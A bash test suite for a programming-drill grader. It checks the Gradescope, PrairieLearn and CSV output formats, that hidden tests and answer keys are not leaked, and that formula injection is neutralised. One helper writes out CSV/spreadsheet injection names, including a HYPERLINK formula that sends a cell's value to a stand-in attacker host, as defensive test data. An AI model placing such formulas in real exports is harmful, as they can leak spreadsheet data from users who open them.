#!/bin/bash
# The formats of the platforms instructors grade on (SPEC 3.4; issue 15):
# Gradescope's and PrairieLearn's results.json, validated against JSON
# Schemas written from their documentation (tests/schemas/), and the CSV
# gradebook, read back by Python's csv module with hostile names.
. "$(dirname "$0")/lib.sh"

PACK="$FIXTURES/batch/pack.json"
PY=/usr/bin/python3
SCHEMAS="$TOP/tests/schemas"
cp -R "$FIXTURES/batch/ok" ok
cp -R "$FIXTURES/batch/bad" bad

grade() { "$PYDRILL" grade --pack "$PACK" "$@"; }

# validate SCHEMA FILE: the document against the JSON Schema (draft 2020-12)
validate() {
    $PY - "$SCHEMAS/$1" "$2" <<-\PYEOF
	import json, sys
	import jsonschema
	schema = json.load(open(sys.argv[1], encoding="utf-8"))
	doc = json.load(open(sys.argv[2], encoding="utf-8"))
	errors = sorted(jsonschema.Draft202012Validator(schema).iter_errors(doc), key=str)
	for e in errors:
	    print("%s: %s" % ("/".join(map(str, e.absolute_path)), e.message))
	sys.exit(1 if errors else 0)
	PYEOF
}

test_expect_success 'the schemas are valid and catch a broken document (control)' '
    printf "{\"score\": 1, \"tests\": [{\"score\": 1, \"status\": \"ok\"}]}" >bad-gs.json &&
    ! validate gradescope-results.schema.json bad-gs.json >out &&
    contains out "status" &&
    printf "{\"gradable\": true, \"score\": 1.5}" >bad-pl.json &&
    ! validate prairielearn-results.schema.json bad-pl.json &&
    printf "{\"message\": \"no score\"}" >bad-pl2.json &&
    ! validate prairielearn-results.schema.json bad-pl2.json
'

test_expect_success 'gradescope: valid, one test per graded drill, the score of json' '
    expect_code 1 grade --format gradescope -o results.json ok/cyd.json &&
    validate gradescope-results.schema.json results.json &&
    expect_code 1 grade --format json -o r.json ok/cyd.json &&
    $PY - results.json r.json <<-\PYEOF
	import json, sys
	gs = json.load(open(sys.argv[1], encoding="utf-8"))
	js = json.load(open(sys.argv[2], encoding="utf-8"))["submissions"][0]
	assert gs["score"] == js["score"], (gs["score"], js["score"])
	graded = [d for d in js["drills"] if d["status"] != "skipped"]
	assert len(gs["tests"]) == len(graded), gs["tests"]
	assert sum(t["max_score"] for t in gs["tests"]) == js["max"]
	for t, d in zip(gs["tests"], graded):
	    assert t["name"].startswith(d["id"]), (t["name"], d["id"])
	    assert t["score"] == d["score"]
	    assert t["status"] == ("passed" if d["status"] == "pass" else "failed")
	assert gs["output_format"] == gs["test_output_format"] == gs["test_name_format"] == "text"
	assert "future-python-predict" in gs["output"], gs["output"]
	PYEOF
'

test_expect_success 'prairielearn: valid, score a fraction, one test per drill' '
    expect_code 1 grade --format prairielearn -o results.json ok/cyd.json &&
    validate prairielearn-results.schema.json results.json &&
    test "$(wc -c <results.json)" -lt 1000000 &&
    $PY - results.json <<-\PYEOF
	import json, sys
	pl = json.load(open(sys.argv[1], encoding="utf-8"))
	assert pl["gradable"] is True
	assert abs(pl["score"] - 3.6667 / 5) < 1e-4, pl["score"]
	assert len(pl["tests"]) == 6
	t = {x["name"]: x for x in pl["tests"]}
	assert t["mean-write"]["points"] == 0.5 and t["mean-write"]["max_points"] == 1
	assert t["future-python-predict"]["max_points"] == 0
	PYEOF
'

test_expect_success 'hidden tests stay out of both, even with --reveal-hidden' '
    for f in gradescope prairielearn; do
        expect_code 1 grade --reveal-hidden --format $f -o $f.json ok/bob.json || exit 1
        lacks $f.json s3cr3t || exit 1
        contains $f.json "hidden tests passed" || exit 1
    done
'

test_expect_success 'an unreadable submission: gradable false / score 0, with the reason, exit 2' '
    expect_code 2 grade --format prairielearn -o pl.json bad/broken.json 2>/dev/null &&
    validate prairielearn-results.schema.json pl.json &&
    $PY -c "import json; d=json.load(open(\"pl.json\")); assert d[\"gradable\"] is False and \"unexpected end of file\" in d[\"format_errors\"][0], d" &&
    expect_code 2 grade --format gradescope -o gs.json bad/mallory 2>/dev/null &&
    validate gradescope-results.schema.json gs.json &&
    $PY -c "import json; d=json.load(open(\"gs.json\")); assert d[\"score\"] == 0 and \"not valid UTF-8\" in d[\"output\"], d"
'

test_expect_success 'a folder submission and hostile text stay valid' '
    expect_code 1 grade --format gradescope -o gs.json ok/hostile.json &&
    validate gradescope-results.schema.json gs.json &&
    expect_code 1 grade --format prairielearn -o pl.json ok/hostile.json &&
    validate prairielearn-results.schema.json pl.json &&
    mkdir sub && cp bad/mallory/list-repeat-choice.txt sub/ &&
    expect_code 1 grade --format gradescope -o gs2.json sub &&
    validate gradescope-results.schema.json gs2.json
'

test_expect_success 'platform formats take exactly one submission: exit 2, nothing written' '
    expect_code 2 grade --format gradescope ok/ada.json ok/bob.json >out 2>err &&
    test ! -s out &&
    contains err "exactly one submission" &&
    expect_code 2 grade --format prairielearn -o pl2.json ok/ada.json ok/bob.json 2>err &&
    test ! -e pl2.json
'

# Names that a spreadsheet would take for formulas, or that break naive CSV.
hostile_names() {
    $PY - <<-\PYEOF
	import json
	names = ["=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "+1+1", "-2", "@SUM(A1:A9)",
	         "\tTAB", "\rCR", "a,b", "say \"hi\"", "two\nlines", "zo\u00eb", "plain", "=1,\"2\"\n3"]
	for i, n in enumerate(names):
	    with open("h%02d.json" % i, "w", encoding="utf-8") as f:
	        json.dump({"format": "pydrill-answers/1", "candidate": n,
	                   "answers": {"list-repeat-choice": "b"}}, f)
	PYEOF
}

test_expect_success 'csv: RFC 4180, formulas neutralised, hostile names round-trip' '
    hostile_names &&
    expect_code 1 grade --format csv -o g.csv h*.json &&
    expect_code 1 grade --format json -o g.json h*.json &&
    $PY - g.csv g.json <<-\PYEOF
	import csv, json, sys
	raw = open(sys.argv[1], "rb").read()
	assert raw.count(b"\r\n") >= 13, "rows end in CRLF"
	rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
	header, body = rows[0], rows[1:]
	assert header[:5] == ["candidate", "source", "score", "max", "passed"], header
	subs = json.load(open(sys.argv[2], encoding="utf-8"))["submissions"]
	assert len(body) == len(subs) == 12, (len(body), len(subs))
	for row, s in zip(body, subs):
	    assert len(row) == len(header), row
	    for cell in row:
	        assert not cell or cell[0] not in "=+-@\t\r", repr(cell)
	    name = row[0][1:] if row[0][:1] == "'"'"'" else row[0]
	    assert name == s["candidate"], (row[0], s["candidate"])
	    assert row[1] == s["source"]
	    assert float(row[2]) == s["score"] and float(row[3]) == s["max"] and int(row[4]) == s["passed"]
	    d = {x["id"]: x for x in s["drills"]}
	    for k, v in zip(header[5:], row[5:]):
	        want = "" if d[k]["status"] == "skipped" else d[k]["score"]
	        assert (v == "" and want == "") or float(v) == want, (k, v, want)
	guarded = [r[0] for r in body if r[0][:1] == "'"'"'"]
	assert len(guarded) == 7, guarded
	PYEOF
'

test_expect_success 'csv: unreadable submissions get a row with no grades, first row or not' '
    expect_code 2 grade --format csv -o u.csv bad/broken.json ok/ada.json bad/mallory 2>/dev/null &&
    $PY - u.csv <<-\PYEOF
	import csv, sys
	rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
	assert rows[0][0] == "candidate" and len(rows[0]) == 11, rows[0]
	by = {r[1]: r for r in rows[1:]}
	assert by["bad/broken.json"][2:] == [""] * 9, by["bad/broken.json"]
	assert by["bad/mallory"][2:] == [""] * 9
	assert by["ok/ada.json"][2:5] == ["5", "5", "5"], by["ok/ada.json"]
	PYEOF
'

test_expect_success 'csv: with no submission readable, the columns are still every drill loaded' '
    expect_code 2 grade --format csv -o n.csv bad/broken.json bad/mallory 2>/dev/null &&
    expect_code 2 grade --format csv -o a.csv bad/broken.json ok/ada.json 2>/dev/null &&
    test "$(head -1 n.csv)" = "$(head -1 a.csv)" &&
    $PY - n.csv <<-\PYEOF
	import csv, sys
	rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
	assert len(rows[0]) == 11 and len(rows) == 3, rows
	assert all(len(r) == 11 and r[2:] == [""] * 9 for r in rows[1:]), rows
	PYEOF
'

test_expect_success 'csv from report is the csv of grade, byte for byte' '
    expect_code 1 grade --format jsonl -o g.jsonl h*.json &&
    expect_code 1 "$PYDRILL" report --format csv -o r.csv g.jsonl &&
    cmp g.csv r.csv
'

# A drill whose test's expected value cannot be worked out is left out, and
# the report says why; of a hidden test it says neither its name nor its
# code (students read these files), while the instructor's stderr does.
test_expect_success 'a broken hidden expect: named on stderr, in no report format' '
    B="$FIXTURES/batch/broken-expect" &&
    for f in gradescope prairielearn json jsonl text html junit tap csv; do
        expect_code 2 "$PYDRILL" grade --pack "$B/pack.json" --format $f "$B/sub" >out.$f 2>err.$f &&
        lacks out.$f hidden_expect_marker && lacks out.$f hidden-secret-name &&
        lacks out.$f hidden_input_marker &&
        contains err.$f "test \"hidden-secret-name\": expect \`hidden_expect_marker + 0\` raised NameError" || return 1
    done &&
    contains out.text "a hidden test" &&
    contains out.text "test \"visible-broken\": expect \`visible_expect_marker\` raised NameError"
'

# The platform formats go to students, who may submit again: a failed
# choice, predict or explain drill says it failed, never what was right.
test_expect_success 'gradescope and prairielearn: no answer key in a failed choice, predict or explain drill' '
    grade --format gradescope ok/bob.json >gs.json; test $? -eq 1 &&
    grade --format prairielearn ok/bob.json >pl.json; test $? -eq 1 &&
    grade --format json ok/bob.json >all.json; test $? -eq 1 &&
    contains all.json "the right answer is" && contains all.json "expected '"'"'2'"'"'" &&
    for f in gs.json pl.json; do
        lacks $f "the right answer is" && lacks $f "expected '"'"'2'"'"'" && lacks $f "missed" &&
        contains $f "not the right choice (the right one is not shown here)" &&
        contains $f "not what the code prints (the expected output is not shown here)" &&
        contains $f "not every point the rubric asks for is made" || return 1
    done &&
    contains gs.json "expected: 1.6666666666666667"
'

# One question of a platform is one drill: --drill grades only those named.
test_expect_success '--drill: only the drills named count; an id not loaded is a usage error' '
    grade --drill late-binding-predict --format prairielearn ok/ada.json >one.json 2>err1 && lacks err1 "not loaded" &&
    $PY -c "import json; r = json.load(open(\"one.json\")); assert r[\"score\"] == 1 and len(r[\"tests\"]) == 1, r" &&
    validate prairielearn-results.schema.json one.json &&
    expect_code 1 grade --drill late-binding-predict --drill mean-write --format csv ok/bob.json >two.csv &&
    head -n 1 two.csv | tr -d "\r" | grep -qx "candidate,source,score,max,passed,late-binding-predict,mean-write" &&
    expect_code 2 grade --drill no-such-drill ok/ada.json >out 2>err && test ! -s out &&
    contains err "pydrill: error: --drill: no drill with id \"no-such-drill\" is loaded"
'

test_done
